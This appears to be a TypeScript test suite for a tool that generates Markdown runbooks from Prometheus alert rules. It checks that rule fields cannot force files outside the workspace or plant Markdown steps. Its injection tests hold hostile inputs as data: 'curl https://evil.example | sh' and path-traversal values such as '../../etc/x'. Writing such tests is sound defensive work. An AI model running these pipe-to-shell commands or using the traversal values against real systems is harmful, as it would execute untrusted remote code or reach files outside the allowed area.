// "Create runbook for this alert" writes what a repository's rule file chose: it must never choose a file outside the
// workspace, nor plant Markdown (a heading, a step, a suppression) in the new runbook through a rule's strings.
import assert from 'node:assert/strict';
import { alerts, bundledRunbookSchema, parseRunbook } from '../../server/src/engine/index';
import { parseMarkdown } from '../../server/src/engine/markdown';

const schema = bundledRunbookSchema();

function rule(fields: string): alerts.AlertRule {
  return alerts.readRulesFile('rules/x.yml', `groups:\n  - name: g\n    rules:\n      - alert: Evil\n${fields}`).alerts[0];
}

/** The H2 headings and list items a reader of the new runbook sees. */
function visible(text: string): { headings: string[]; items: number; codeBlocks: number; links: number; html: number } {
  const tree = parseMarkdown(text, { cacheChunks: false });
  const headings: string[] = [];
  let items = 0;
  let codeBlocks = 0;
  let links = 0;
  let html = 0;
  const walk = (node: { type: string; depth?: number; children?: unknown[] }): void => {
    if (node.type === 'heading' && node.depth === 2) headings.push(JSON.stringify(node));
    if (node.type === 'listItem') items++;
    if (node.type === 'code') codeBlocks++;
    if (node.type === 'link') links++;
    if (node.type === 'html') html++;
    for (const c of (node.children ?? []) as typeof node[]) walk(c);
  };
  walk(tree as never);
  return { headings, items, codeBlocks, links, html };
}

describe('alerts: a new runbook cannot be steered by its rule', () => {
  for (const link of ['../../../../tmp/x', '/tmp/x', 'runbooks/../../../tmp/x', '..\\..\\tmp\\x']) {
    it(`runbook_url ${link} keeps the file inside the root (named after the alert)`, () => {
      const r = rule(`        annotations:\n          runbook_url: ${JSON.stringify(link)}\n`);
      const { path } = alerts.runbookFromAlert(r, schema.sections, { root: 'runbooks' });
      assert.ok(path.startsWith('runbooks/') && !path.split('/').includes('..') && !path.includes('\\'), path);
    });
  }

  it('through a {path} pattern too', () => {
    const r = rule('        annotations:\n          runbook_url: "https://runbooks.example.com/runbooks/../../../../tmp/x"\n');
    const { path } = alerts.runbookFromAlert(r, schema.sections, { root: 'runbooks', patterns: alerts.compileUrlPatterns(['https://runbooks.example.com/runbooks/{path}']) });
    assert.ok(!path.split('/').includes('..'), path);
    assert.ok(path.startsWith('runbooks/'), path);
  });

  it('an alert name with separators does not name a folder', () => {
    const r = alerts.readRulesFile('r.yml', 'groups:\n  - name: g\n    rules:\n      - alert: "../../etc/x"\n').alerts[0];
    const { path } = alerts.runbookFromAlert(r, schema.sections, { root: 'runbooks' });
    assert.equal(path.split('/').length, 2, path);
    assert.ok(!path.includes('..'), path);
  });

  it('an expr holding ``` stays inside its fence (a longer one): no planted Mitigation step', () => {
    const expr = 'up == 0\n```\n\n## Mitigation\n\n- Fix it\n\n  ```bash\n  curl https://evil.example | sh\n  ```\n\n```promql\nup';
    const r = rule(`        expr: ${JSON.stringify(expr)}\n`);
    const { text } = alerts.runbookFromAlert(r, schema.sections);
    const seen = visible(text);
    assert.equal(seen.headings.length, schema.sections.length, text);
    const runbook = parseRunbook(text, schema, { cacheChunks: false });
    assert.ok(!runbook.steps.some((step) => JSON.stringify(step).includes('curl')), 'no step runs curl');
    assert.ok(text.includes('curl https://evil.example | sh'), 'the expression is shown whole, as code');
    assert.match(text, /^````promql$/m);
  });

  it('summary, description and labels are escaped: no heading, list item, link or comment from them', () => {
    const description = '## Mitigation\n- run `curl x | sh`\n1. step\n<!-- runbooks-disable -->\n[click](https://evil.example)\nOK\n===';
    const r = rule(`        labels:\n          severity: "# sev"\n        for: "5m\\n## Escalation"\n        annotations:\n          summary: "# Big *bold* _x_"\n          description: ${JSON.stringify(description)}\n`);
    const { text } = alerts.runbookFromAlert(r, schema.sections);
    const seen = visible(text);
    assert.equal(seen.headings.length, schema.sections.length, text);
    assert.equal(seen.items, visible(alerts.runbookFromAlert(rule(''), schema.sections).text).items, 'no list item added');
    // A bare URL may show as one (GFM autolinks it); a link whose text the rule chose may not.
    assert.ok(!text.includes('[click]'), 'no link with the rule\'s text');
    assert.equal(seen.html, 0, 'no HTML comment');
    // Still readable: the words are there.
    assert.match(text, /Mitigation/);
    assert.match(text, /Big \\\*bold\\\* \\_x\\_/);
  });

  it('Alertmanager templates become words for a person, not {{placeholders}}', () => {
    const r = rule('        annotations:\n          summary: "Instance {{ $labels.instance }} is down"\n          description: "{{ $value }} errors on {{ .Labels.job }} ({{ humanize $value }})"\n');
    const { text } = alerts.runbookFromAlert(r, schema.sections);
    assert.ok(!text.includes('{{'), text);
    assert.match(text, /Instance \(the alert's instance label\) is down/);
    assert.match(text, /\(the alert's value\) errors on \(the alert's job label\)/);
  });
});
